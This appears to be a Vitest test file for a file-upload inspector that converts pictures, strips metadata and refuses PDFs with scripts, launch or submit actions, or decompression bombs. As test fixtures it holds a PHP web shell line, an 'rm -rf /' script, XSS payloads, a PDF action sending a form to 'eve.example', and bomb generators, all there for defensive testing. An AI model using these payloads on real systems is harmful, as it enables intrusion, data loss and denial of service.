import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import { afterAll, describe, expect, it } from 'vitest'
import { javaScript, nestedPdf, onOpen, pdfWith, plainPdf } from '../../testing/pdf-files.ts'
import { inspectFile } from './inspect-file.ts'
import type { Inspection } from './inspection.ts'

const megabyte = 1024 * 1024
const folder = mkdtempSync(join(tmpdir(), 'inspect-'))
const [source, target] = [join(folder, 'source'), join(folder, 'target')]
afterAll(() => rmSync(folder, { recursive: true }))

/** What is said about the bytes, and what is stored of them. */
async function inspect(bytes: Uint8Array | string, maxBytes = 5 * megabyte) {
  rmSync(target, { force: true })
  writeFileSync(source, bytes)
  const inspection: Inspection = await inspectFile({ source, target, maxBytes })
  return { inspection, written: existsSync(target) ? readFileSync(target) : Buffer.alloc(0) }
}

const badFile = { kind: 'refused', code: 'BAD_FILE' }
const notChecked = { kind: 'refused', code: 'NOT_CHECKED' }
const notAllowed = { kind: 'refused', code: 'TYPE_NOT_ALLOWED' }
const picture = { width: 64, height: 48, channels: 3, background: '#a4643f' } as const

const jpeg = await sharp({ create: picture }).jpeg().toBuffer()
const png = await sharp({ create: picture }).png().toBuffer()

describe('a picture', () => {
  it.each([
    ['jpeg', 'image/jpeg'],
    ['png', 'image/png'],
    ['webp', 'image/jpeg'],
    ['gif', 'image/png'],
    ['avif', 'image/jpeg'],
    ['tiff', 'image/jpeg'],
  ] as const)('of type %s is stored as %s [CONT-14]', async (format, type) => {
    const { inspection, written } = await inspect(await sharp({ create: picture }).toFormat(format).toBuffer())
    expect(inspection).toMatchObject({ kind: 'accepted', type })
    expect(await sharp(written).metadata()).toMatchObject({ format: type.slice(6), width: 64, height: 48 })
  })

  it('loses where and when it was taken, and is upright', async () => {
    const exif = { IFD0: { Copyright: 'Ada' }, IFD3: { GPSLatitude: '51/1 3/1 0/1' } }
    const taken = await sharp({ create: picture }).withExif(exif).withMetadata({ orientation: 6 }).jpeg().toBuffer()
    expect((await sharp(taken).metadata()).exif).toBeDefined()
    const { written } = await inspect(taken)
    const stored = await sharp(written).metadata()
    expect(stored).toMatchObject({ width: 48, height: 64 })
    for (const key of ['exif', 'xmp', 'iptc', 'orientation']) expect(stored).not.toHaveProperty(key)
  })

  it.each([
    ['a web page', '<script>alert(1)</script>'],
    ['an archive', 'PK\u0003\u0004 evil.exe'],
    ['a document with a script', '%PDF-1.4 /OpenAction << /S /JavaScript /JS (x) >>'],
    ['a program', '<?php system($_GET[0]); ?>'],
  ])('that is %s, too, is stored without it', async (_name, appended) => {
    for (const bytes of [jpeg, png]) {
      const { inspection, written } = await inspect(Buffer.concat([bytes, Buffer.from(appended)]))
      expect(inspection.kind).toBe('accepted')
      expect(written.includes(appended)).toBe(false)
    }
  })

  it('with a comment that is a script is stored without it', async () => {
    const comment = Buffer.from('*/=1;alert(1)/*')
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment])
    const { inspection, written } = await inspect(Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]))
    expect(inspection.kind).toBe('accepted')
    expect(written.includes('alert')).toBe(false)
  })

  it('of 50 million pixels in a few bytes is refused', async () => {
    expect(bombOf(7100).length).toBeLessThan(10_000)
    expect((await inspect(bombOf(7100))).inspection).toEqual(badFile)
  })

  it('larger than any screen is stored smaller', { tags: 'slow' }, async () => {
    const large = await sharp({ create: { ...picture, width: 6000, height: 3000 } })
      .jpeg()
      .toBuffer()
    expect(await sharp((await inspect(large)).written).metadata()).toMatchObject({ width: 4096, height: 2048 })
  })

  it('that would have more bytes than a file may have is compressed more', async () => {
    const noise = { ...picture, noise: { type: 'gaussian', mean: 128, sigma: 60 } as const }
    const bytes = await sharp({ create: { ...noise, width: 500, height: 500 } })
      .png()
      .toBuffer()
    const { inspection, written } = await inspect(bytes, 200_000)
    expect(inspection).toMatchObject({ kind: 'accepted', type: 'image/jpeg', suffix: 'jpg' })
    expect(written.length).toBeLessThan(200_000)
  })

  it.each([0.3, 0.9])('of which %d is there is refused', async (part) => {
    const noise = await sharp(Buffer.from(Array.from({ length: 30_000 }, (_, index) => (index * 7919) % 251)), {
      raw: { width: 100, height: 100, channels: 3 },
    })
      .jpeg()
      .toBuffer()
    expect((await inspect(noise.subarray(0, noise.length * part))).inspection).toEqual(badFile)
  })
})

describe('a file that is no picture and no PDF is refused [CONT-14] [CONT-15]:', () => {
  it.each([
    ['SVG with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['SVG after an XML declaration', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['a web page', '<!doctype html><img src=x onerror=alert(1)>'],
    ['a program', 'MZ\u0090\u0000\u0003'],
    ['a script', '#!/bin/sh\nrm -rf /'],
    ['an archive', 'PK\u0003\u0004\u0014\u0000'],
    ['a text', 'Hello'],
    ['the first bytes of nothing', '\u0089'],
    ['a web page before a document', '<html>%PDF-1.4'],
  ])('%s', async (_name, text) => {
    expect((await inspect(Buffer.from(text, 'latin1'))).inspection).toEqual(notAllowed)
  })
})

describe('a PDF', () => {
  it('keeps its pages', async () => {
    const { inspection, written } = await inspect(await pdfWith())
    expect(inspection).toEqual({ kind: 'accepted', type: 'application/pdf', suffix: 'pdf' })
    expect((await PDFDocument.load(written)).getPageCount()).toBe(1)
  })

  it('that is signed is stored: its pages are read, though the signature does not survive', async () => {
    const signed = await pdfWith(({ catalog, context }) => {
      const signature = {
        Type: 'Sig',
        Filter: 'Adobe.PPKLite',
        SubFilter: 'adbe.pkcs7.detached',
        ByteRange: [0, 1, 2, 3],
      }
      const field = { FT: 'Sig', T: PDFString.of('Signature1'), V: context.register(context.obj(signature)) }
      catalog.set(PDFName.of('AcroForm'), context.obj({ SigFlags: 3, Fields: [context.register(context.obj(field))] }))
    })
    expect((await inspect(signed)).inspection).toMatchObject({ kind: 'accepted', suffix: 'pdf' })
  })

  it.each<[string, Parameters<typeof pdfWith>[0]]>([
    ['a script', (document) => onOpen(document, javaScript)],
    ['a program to launch', (document) => onOpen(document, { S: 'Launch', F: PDFString.of('cmd.exe') })],
    [
      'a form that is sent',
      (document) => onOpen(document, { S: 'SubmitForm', F: PDFString.of('https://eve.example') }),
    ],
    ['another file to open', (document) => onOpen(document, { S: 'GoToR', F: PDFString.of('\\\\eve\\share') })],
    ['a script that its fields run', (document) => document.addJavaScript('main', 'app.alert(1)')],
    ['a file inside', (document) => document.attach(Buffer.from('MZ'), 'evil.exe', { mimeType: 'text/plain' })],
    ['an XFA form', ({ catalog, context }) => catalog.set(PDFName.of('AcroForm'), context.obj({ XFA: [] }))],
    ['a video', ({ context }) => void context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia' }))],
  ])('with %s is refused, plain and compressed', async (_name, change) => {
    for (const packed of [false, true])
      expect((await inspect(await pdfWith(change, { packed }))).inspection).toEqual(badFile)
  })

  it.each([
    ['in another spelling', '4 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj'],
    ['behind a reference', '4 0 obj\n<< /S 5 0 R >>\nendobj\n5 0 obj\n/JavaScript\nendobj'],
    ['that no page uses', '4 0 obj\nnull\nendobj\n5 0 obj\n[ [ << /S /JavaScript >> ] ]\nendobj'],
    ['in the dictionary of a stream', '4 0 obj\n<< /Length 1 /A << /S /Launch >> >>\nstream\nx\nendstream\nendobj'],
  ])('with an action %s is refused', async (_name, object) => {
    expect((await inspect(plainPdf(object))).inspection).toEqual(badFile)
  })

  it('is stored without objects that a later one replaces, and without what follows its end', async () => {
    const script = '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'
    const bytes = Buffer.concat([plainPdf(script, '4 0 obj\nnull\nendobj'), Buffer.from('PK\u0003\u0004 evil')])
    const { inspection, written } = await inspect(bytes)
    expect(inspection.kind).toBe('accepted')
    expect(/JavaScript|alert|evil/.test(written.toString('latin1'))).toBe(false)
  })

  it.each([
    [
      'encrypted',
      '4 0 obj\n<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P 0 >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 4 0 R >>',
    ],
    ['damaged', '4 0 obj\n<< /S /JavaScript\n'],
  ])('that is %s is refused', async (_name, object) => {
    expect((await inspect(plainPdf(object))).inspection).toEqual(badFile)
  })

  it('without a page is refused', async () => {
    expect((await inspect('%PDF-1.7\n')).inspection).toEqual(badFile)
  })
})

describe('a PDF of a few kB', () => {
  it.each([
    ['once to 20 MB', { filters: 1, bytes: 20 * megabyte }],
    ['twice', { filters: 2, bytes: 1000 }],
    ['twice to 60 MB', { filters: 2, bytes: 60 * megabyte }],
    ['four times to 60 MB', { filters: 4, bytes: 60 * megabyte }],
  ])('whose objects are packed %s is not checked', async (_name, given) => {
    const bytes = nestedPdf(given)
    expect(bytes.length).toBeLessThan(30_000)
    expect((await inspect(bytes)).inspection).toEqual(notChecked)
  })

  it('with many streams of objects is not checked where they are large together', async () => {
    const packed = deflateSync(Buffer.alloc(6 * megabyte, ' ')).toString('latin1')
    const head = `<< /Type /ObjStm /N 0 /First 0 /Length ${packed.length} /Filter /FlateDecode >>`
    const streams = [4, 5, 6].map((id) => `${id} 0 obj\n${head}\nstream\n${packed}\nendstream\nendobj`)
    expect((await inspect(plainPdf(...streams.slice(1)))).inspection.kind).toBe('accepted')
    expect((await inspect(plainPdf(...streams))).inspection).toEqual(notChecked)
  })

  it('that announces a billion offsets is read without them', async () => {
    const xref = '<< /Type /XRef /W [0 0 0] /Index [0 1000000000] /Size 9 /Root 1 0 R /Length 0 >>'
    const bytes = plainPdf(`4 0 obj\n${xref}\nstream\n\nendstream\nendobj`)
    expect((await inspect(bytes)).inspection.kind).toBe('accepted')
  })

  it('whose pages are a hundred times each other’s is read once', async () => {
    const levels = Array.from({ length: 20 }, (_, level) => {
      const kids = `${level + 6} 0 R `.repeat(100)
      return `${level + 5} 0 obj\n<< /Type /Pages /Kids [${level < 19 ? kids : '5 0 R'}] >>\nendobj`
    })
    const bytes = plainPdf('2 0 obj\n<< /Type /Pages /Kids [5 0 R] >>\nendobj', ...levels)
    expect((await inspect(bytes)).inspection).toEqual(badFile)
  })
})

/** A PNG of that many pixels a side, all of them black: a stream of zeros is small. */
function bombOf(side: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  // One bit for a pixel.
  header.set([1, 0, 0, 0, 0], 8)
  const data = deflateSync(Buffer.alloc(side * (Math.ceil(side / 8) + 1)))
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}
